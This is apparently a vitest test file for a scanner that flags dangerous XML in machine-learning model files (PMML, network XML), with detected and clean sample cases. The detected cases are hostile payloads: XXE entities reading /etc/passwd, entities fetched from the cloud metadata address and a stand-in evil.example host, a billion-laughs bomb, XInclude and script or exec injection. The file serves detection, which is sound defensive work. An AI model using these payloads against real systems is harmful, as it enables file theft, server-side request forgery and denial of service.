import { expect, test } from "vitest";
import { readProlog } from "../../formats/xml/prolog.ts";
import { checkCases, runCheck } from "../../testing/check-cases.ts";
import { expectQuick } from "../../testing/hostile.ts";
import { modelXmlEntities } from "./model-xml-entities.ts";

const xml = (code: string, path = "model.xml") => ({ kind: "text", path, code }) as const;
const pmml = '<PMML version="4.4"><Header/></PMML>';
const net = '<net name="m" version="11"><layers/></net>';

checkCases(modelXmlEntities, {
  found: [
    // CWE-611: a file, a host, and one after the other.
    xml(`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>${pmml}`),
    xml(`<!DOCTYPE net [<!ENTITY % d SYSTEM "http://169.254.169.254/x.dtd"> %d;]>${net}`),
    xml(
      `<?xml version="1.0"?>\n<!-- m -->\n<!DOCTYPE net PUBLIC "a" "http://evil.example/x.dtd">\n${net}`,
    ),
    xml(`<!DOCTYPE PMML SYSTEM 'file:///tmp/x.dtd'>${pmml}`, "m.pmml"),
    // CWE-776: a billion laughs.
    xml(
      `<!DOCTYPE p:PMML [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><p:PMML xmlns:p="x">&b;</p:PMML>`,
    ),
    // A bracket in a comment and a text does not end it.
    xml(`<!DOCTYPE net [<!-- ]> --><!ATTLIST net a CDATA "]>"><!ENTITY a "b">]>${net}`),
    xml(`<!DOCTYPE x [<!ENTITY a "b">`, "m.pmml"),
    xml(`\ufeff<!DOCTYPE net [<!ENTITY a "b">]>${net}`),
    xml(`<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>${pmml}`),
    xml(
      '<PMML version="4.4"><xi:include href="file:///etc/passwd" parse="text"/></PMML>',
      "m.pmml",
    ),
    xml(
      '<PMML version="4.4"><Extension><msxsl:script language="JScript">x</msxsl:script></Extension></PMML>',
    ),
    xml('<PMML version="4.4"><Extension value="java.lang.Runtime.getRuntime().exec(1)"/></PMML>'),
  ],
  clean: [
    xml('<?xml-stylesheet type="text/xsl" href="x.xsl"?><html><script>1</script></html>'),
    xml('<PMML version="4.4"><Extension name="description" value="runs at runtime"/></PMML>'),
    xml(`<?xml version="1.0"?>\n${pmml}`, "m.pmml"),
    xml(`<!-- <!DOCTYPE PMML [<!ENTITY a "b">]> -->${pmml}`),
    xml(`<net><!-- <!DOCTYPE net SYSTEM "x"> --><![CDATA[<!DOCTYPE net SYSTEM "x">]]></net>`),
    xml(`<!DOCTYPE PMML>${pmml}`),
    xml(
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd"><html></html>',
    ),
    xml('<!DOCTYPE log4j SYSTEM "log4j.dtd"><log4j/>', "log4j.xml"),
    xml('<!DOCTYPE network [<!ENTITY a "b">]><network/>'),
    xml(`<!DOCTYPE net [<!ENTITY a "b">]>${net}`, "notes.txt"),
  ],
});

test("the document types of old PMML weigh little", () => {
  const code = `<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">${pmml}`;
  const found = runCheck(modelXmlEntities, xml(code, "m.pmml"));
  expect(found.map(({ details }) => details.severity)).toEqual(["low"]);
});

test("what never ends is read in time", () => {
  for (const part of [
    "<!--",
    "<?",
    "<!DOCTYPE ",
    '<!DOCTYPE a [<!ENTITY a "',
    "<!DOCTYPE a [<!ENTITY ",
    "<",
  ])
    expectQuick(() => readProlog(part.repeat(100_000)), 1_000);
});
